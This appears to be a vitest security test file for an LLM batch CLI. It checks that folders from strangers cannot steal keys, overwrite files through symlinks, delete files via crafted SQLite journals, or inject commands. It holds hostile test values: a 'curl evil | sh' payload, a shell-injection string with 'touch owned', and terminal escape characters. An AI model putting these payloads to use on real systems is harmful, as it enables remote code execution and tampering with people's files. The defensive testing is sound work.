// @module-tag slow

import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { inspectJournal, type JournalRecord } from "@parallel-parrot/journal";
import { startSimulator, type Simulator } from "@parallel-parrot/simulator";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { superJournal } from "../../../../packages/journal/fixtures/super-journal.ts";
import { addTrigger, makeHostileFolder, type Plot } from "../../fixtures/hostile-folder.ts";
import { startParrot, type Finished } from "../../fixtures/run-parrot.ts";

const KEY = "sk-CANARY-7f3a9c55d1e0";
const SECRET_TEXT = "root:CANARY-of-a-file:0:0";
const COMMAND = [
  "text",
  "in.jsonl",
  "--prompt",
  "Sentiment of: ${review}",
  "--model",
  "openai/sim",
  "-o",
  "out.jsonl",
];

/** Records everything that is sent to it. */
class Thief {
  readonly received: string[] = [];
  readonly #server: Server = createServer((request, response) => {
    this.received.push(JSON.stringify([request.url, request.headers]));
    response.end("{}");
  });

  async start(): Promise<string> {
    await new Promise<void>((resolve) => {
      this.#server.listen(0, "127.0.0.1", resolve);
    });
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}/v1`;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

let base: string;
let folder: string;
let home: string;
let thief: Thief;
let plot: Plot;
let simulator: Simulator;

beforeEach(async () => {
  base = await mkdtemp(join(tmpdir(), "parrot-hostile-"));
  [folder, home] = [join(base, "archive"), join(base, "home")];
  await mkdir(home);
  await mkdir(folder);
  await writeFile(join(home, "passwd"), `${SECRET_TEXT}\n${"row,".repeat(9)}\n`);
  await writeFile(join(home, ".bashrc"), "# my start-up file\n");
  await writeFile(join(home, "key"), KEY);
  thief = new Thief();
  plot = {
    baseUrl: await thief.start(),
    wanted: join(home, "passwd"),
    target: join(home, ".bashrc"),
    payload: "curl evil | sh",
  };
  simulator = await startSimulator({ apiKey: KEY });
});
afterEach(async () => {
  await Promise.all([thief.stop(), simulator.close()]);
  await rm(base, { recursive: true });
});

/** As the user, in the archive's folder. */
function type(...parameters: readonly string[]): Promise<Finished> {
  const environment = { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: simulator.baseUrl, HOME: home };
  return startParrot(parameters, environment, folder).finished;
}

/** Every file of the home, with what is in it. */
async function homeFiles(): Promise<Readonly<Record<string, string>>> {
  const found: Record<string, string> = {};
  for (const name of await readdir(home)) {
    const path = join(home, name);
    const status = await lstat(path);
    found[name] = status.isSymbolicLink()
      ? await readlink(path)
      : `${(status.mode & 0o777).toString(8)} ${await readFile(path, "utf8")}`;
  }
  return found;
}

/** Types commands and sees that nobody got anything and nothing of the user's was touched. */
async function typeSafely(...commands: readonly (readonly string[])[]): Promise<readonly Finished[]> {
  const before = await homeFiles();
  const finished: Finished[] = [];
  for (const command of commands) finished.push(await type(...command));
  expect(thief.received).toEqual([]);
  expect(await homeFiles()).toEqual(before);
  const said = finished.map(({ stdout, stderr }) => stdout + stderr).join("\n");
  expect(said.includes(KEY) || said.includes(SECRET_TEXT)).toBe(false);
  // Nothing that a terminal would act on.
  const told = finished.map(({ stderr }) => stderr).join("");
  expect(["\u001B", "\u202E"].filter((each) => told.includes(each))).toEqual([]);
  expect(finished.map(({ code }) => code)).not.toContain(1);
  expect((await readdir(folder)).includes("owned")).toBe(false);
  return finished;
}

/** The record that the user's own command would look for, with another answer in it. */
async function poisonFor(): Promise<JournalRecord> {
  const own = join(base, "own");
  await mkdir(own);
  await writeFile(join(own, "in.jsonl"), '{"review":"good"}\n');
  const environment = { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: simulator.baseUrl };
  await startParrot(COMMAND, environment, own).finished;
  const journal = await inspectJournal(join(own, ".parrot", "journal.db"));
  const [record] = [...journal.records()];
  journal.close();
  if (record === undefined) throw new Error("nothing was asked");
  const body = JSON.stringify({
    ...JSON.parse(record.body),
    choices: [{ index: 0, finish_reason: "stop", message: { role: "assistant", content: plot.payload } }],
  });
  return { ...record, body };
}

describe("a folder from a stranger", () => {
  it("a stranger's journal has nothing sent, read or written", async () => {
    await makeHostileFolder(folder, plot, []);
    const [resumed, retried, ...others] = await typeSafely(
      ["resume"],
      ["retry-failed"],
      ["resume", "1"],
      ["resume", "2", "--overwrite", "--trust-journal", "--key-file", join(home, "key")],
      ["retry-failed", "2", "--model", "openai/other"],
    );
    for (const refusal of [resumed, retried, ...others]) {
      expect(refusal).toMatchObject({ code: 2, stdout: "" });
      expect(refusal?.stderr).toContain("it is not signed by you");
      for (const shown of [plot.baseUrl, plot.wanted, plot.target, "openai/"])
        expect(refusal?.stderr).toContain(shown);
      // Whose key, and what may be lost, is for the person to say.
      expect(refusal?.stderr).not.toMatch(/type it: .*--(?:key-file|overwrite|trust-journal)/);
      expect(refusal?.stderr).toContain(
        String.raw`--output-key $'x\047; touch owned; \047\033[2J\U0000202e'`,
      );
    }
    const [shown, exported] = await typeSafely(
      ["journal", "show"],
      ["journal", "export"],
      ["journal", "show", "--json"],
      ["explain", ...COMMAND],
      ["journal", "prune", "--keep-last", "1"],
    );
    expect(shown?.stdout).toContain("others");
    expect(exported?.code).toBe(0);
  });

  it("a stranger's answers are not given to the user's own command, which says so before anything is sent", async () => {
    await makeHostileFolder(folder, plot, [await poisonFor()]);
    const asked = simulator.ledger.received;
    const [refused, explained] = await typeSafely(COMMAND, ["explain", ...COMMAND]);
    expect(refused).toMatchObject({ code: 2, stdout: "" });
    expect(refused?.stderr).toContain("runs 1, 2 with 1 request, not signed by you");
    expect(refused?.stderr).toContain("--trust-journal");
    expect(simulator.ledger.received).toBe(asked);
    expect(explained?.stderr).toContain("their answers are not counted, and a run would stop");
    expect(explained?.stdout).toMatch(/rows?: 0 answered/);
    // The two ways out.
    const [other] = await typeSafely([...COMMAND, "--journal", "mine.db"]);
    expect(other?.code).toBe(0);
    expect(await readFile(join(folder, "out.jsonl"), "utf8")).not.toContain(plot.payload);
    const [trusted] = await typeSafely([...COMMAND, "--trust-journal", "--overwrite"]);
    expect(trusted).toMatchObject({ code: 0, stderr: expect.stringContaining("1 answer in ") });
    expect(await readFile(join(folder, "out.jsonl"), "utf8")).toContain(plot.payload);
    expect(simulator.ledger.received).toBe(asked + 1);
    // Trust in answers is no trust in what the runs would do.
    const [resumed] = await typeSafely(["resume", "1"]);
    expect(resumed?.stderr).toContain("you have taken over its answers, but not what it does");
  });

  it("a stranger's journal with a trigger is refused", async () => {
    await makeHostileFolder(folder, plot, []);
    addTrigger(folder);
    const finished = await typeSafely(
      ["resume"],
      ["retry-failed"],
      ["journal", "show"],
      ["journal", "export"],
      ["journal", "prune", "--failures"],
      ["explain", ...COMMAND],
      COMMAND,
      [...COMMAND, "--trust-journal"],
    );
    expect(finished.map(({ code, stderr }) => [code, stderr.includes("not those of a journal")])).toEqual(
      finished.map(() => [2, true]),
    );
  });

  it("no file of the user is deleted because SQLite's journals in a stranger's folder name it", async () => {
    await makeHostileFolder(folder, plot, []);
    const lock = await readFile(join(folder, ".parrot", "journal.db-lock"));
    await writeFile(join(folder, ".out.jsonl.parrot-lock"), lock);
    for (const [name, pages] of [
      [".parrot/journal.db", 5],
      [".out.jsonl.parrot-lock", 2],
    ] as const)
      await writeFile(join(folder, `${name}-journal`), superJournal(plot.target, pages));
    const finished = await typeSafely(["journal", "show"], ["resume"], COMMAND, [...COMMAND, "--no-journal"]);
    for (const { stderr } of finished)
      expect(stderr).toContain("-journal would make SQLite delete another file");
    expect(finished.map(({ code }) => code)).toEqual([2, 2, 2, 0]);
  });

  it.skipIf(process.platform === "win32")(
    "a folder from a stranger does not lead --overwrite to another file of the user",
    async () => {
      await writeFile(join(folder, "in.jsonl"), '{"review":"good"}\n');
      await symlink(plot.target, join(folder, "out.jsonl"));
      const [refused] = await typeSafely([...COMMAND, "--overwrite"]);
      expect(refused).toMatchObject({
        code: 2,
        stderr: expect.stringContaining("Cannot write out.jsonl: it is a link to "),
      });
    },
  );

  it.skipIf(process.platform === "win32")(
    "a stranger's folder does not lead a prune to the user's own journal",
    async () => {
      await poisonFor();
      const own = join(base, "own", ".parrot");
      const before = await readFile(join(own, "journal.db"));
      await symlink(own, join(folder, ".parrot"));
      const [refused] = await typeSafely(["journal", "prune", "--keep-last", "0"]);
      expect(refused).toMatchObject({ code: 2, stderr: expect.stringContaining(".parrot is a link to ") });
      expect(await readFile(join(own, "journal.db"))).toEqual(before);
    },
  );

  it("a stranger's run is refused whatever long numbers stand in place of its names", async () => {
    await makeHostileFolder(folder, plot, []);
    const database = new DatabaseSync(join(folder, ".parrot", "journal.db"));
    database.exec(
      "UPDATE run SET manifest = json_set(manifest, '$.cwd', 9007199254740993, '$.job.options.output', 9007199254740993)",
    );
    database.close();
    const finished = await typeSafely(["resume"], ["retry-failed"], ["journal", "show"]);
    expect(finished.map(({ code }) => code)).toEqual([2, 2, 0]);
  });

  it("addresses, folders and patterns in a stranger's run are shown, and neither asked for nor listed", async () => {
    await makeHostileFolder(folder, plot, []);
    const address = `${plot.baseUrl}/rows.csv?token=of-somebody`;
    const database = new DatabaseSync(join(folder, ".parrot", "journal.db"));
    database
      .prepare("UPDATE run SET manifest = json_set(manifest, '$.job.input', json(?))")
      .run(JSON.stringify([address, "/", "~/**/*", address]));
    database.close();
    const finished = await typeSafely(["resume"], ["retry-failed"], ["journal", "show"]);
    expect(finished.map(({ code }) => code)).toEqual([2, 2, 0]);
    expect(finished[0]?.stderr).toContain("read as input: http://127.0.0.1:");
    expect(finished.map(({ stderr }) => stderr).join()).not.toContain("of-somebody");
    expect(thief.received).toEqual([]);
  });

  it("a stranger's journal is shown whatever times are in it", async () => {
    await makeHostileFolder(folder, plot, []);
    const database = new DatabaseSync(join(folder, ".parrot", "journal.db"));
    database.exec("UPDATE run SET started_at = 9007199254740991, touched_at = 9007199254740991");
    database.close();
    const [shown] = await typeSafely(["journal", "show"]);
    expect(shown?.code).toBe(0);
  });

  it.skipIf(process.platform === "win32").each([
    [".parrot", ".parrot"],
    ["the journal", ".parrot/journal.db"],
    ["the file that keeps it out of version control", ".parrot/.gitignore"],
    ["the lock", ".parrot/journal.db-lock"],
    ["the log", ".parrot/journal.db-wal"],
    ["the lock of the output", ".out.jsonl.parrot-lock"],
    ["where the output grows", "out.partial.jsonl"],
    ["the list of failed rows", "out.jsonl.failed.jsonl"],
    ["the output", "out.jsonl"],
  ])("nothing is made or changed where a link leads that stands for %s", async (_, name) => {
    for (const target of ["nowhere", ".bashrc", "empty"]) {
      await rm(folder, { recursive: true });
      await mkdir(folder);
      await writeFile(join(home, "empty"), "");
      if (name.startsWith(".parrot/")) await mkdir(join(folder, ".parrot"));
      await writeFile(join(folder, "in.jsonl"), '{"review":"good"}\n');
      await symlink(join(home, target), join(folder, name));
      await typeSafely(COMMAND, ["resume"], ["journal", "show"]);
    }
    await expect(lstat(join(home, "nowhere"))).rejects.toThrow("ENOENT");
  });
});
